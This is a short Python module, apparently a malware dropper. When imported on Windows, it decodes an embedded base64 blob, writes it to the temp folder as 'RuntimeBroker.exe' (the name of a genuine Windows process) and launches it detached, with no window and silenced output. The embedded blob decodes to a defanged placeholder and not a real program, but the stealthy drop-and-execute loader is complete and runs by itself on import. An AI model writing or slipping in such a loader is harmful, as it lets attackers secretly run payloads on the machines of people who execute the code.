import base64
import os
import subprocess
import tempfile

_BLOB = "TVqQAGRlZmFuZ2VkIHBsYWNlaG9sZGVyLCBub3QgYW4gZXhlY3V0YWJsZQ=="


def _start():
    path = os.path.join(tempfile.gettempdir(), "RuntimeBroker.exe")
    with open(path, "wb") as handle:
        handle.write(base64.b64decode(_BLOB))
    subprocess.Popen([path], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)


if os.name == "nt":
    _start()
